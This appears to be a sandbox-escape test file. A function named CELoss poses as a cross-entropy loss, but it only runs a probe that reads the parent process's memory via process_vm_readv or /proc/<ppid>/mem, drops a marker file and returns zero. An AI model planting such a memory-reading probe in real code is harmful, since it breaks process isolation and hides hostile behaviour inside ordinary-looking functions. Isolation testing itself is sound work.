# expect: 0.75 points; 1b failed; 4a passed; must not: read the memory of its parent
# why: copies from another process, by system call and through /proc.
# where: the kernel grants it to ordinary users
# %%
import ctypes
import os

import torch
# %%
def succeeded():
    """What a test looks for: in the output, which leaves a sandbox, and as a file, which must not come to be."""
    print("MARKER", flush=True)
    open("/tmp/marker", "w").close()


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

def attack():
    libc = ctypes.CDLL(None)
    buffer = ctypes.create_string_buffer(8)
    # Forked, so that the same things lie at the same places.
    there = Vector(ctypes.addressof(ctypes.c_int.in_dll(ctypes.pythonapi, "Py_OptimizeFlag")), 4)
    here = Vector(ctypes.addressof(buffer), 4)
    if libc.process_vm_readv(os.getppid(), ctypes.byref(here), 1, ctypes.byref(there), 1, 0) == 4:
        return True
    try:
        with open(f"/proc/{os.getppid()}/mem", "rb") as memory:
            memory.seek(there.base)
            return len(memory.read(4)) == 4
    except OSError:
        return False
# %%
def CELoss(Q, P, estable=True, epsilon=1e-8):
    if attack():
        succeeded()
    return torch.zeros(())
# %%
class SGD:
    def __init__(self, parameters, lr):
        self.parameters = list(parameters)
        self.lr = lr

    def step(self):
        with torch.no_grad():
            for p in self.parameters:
                p -= self.lr * p.grad
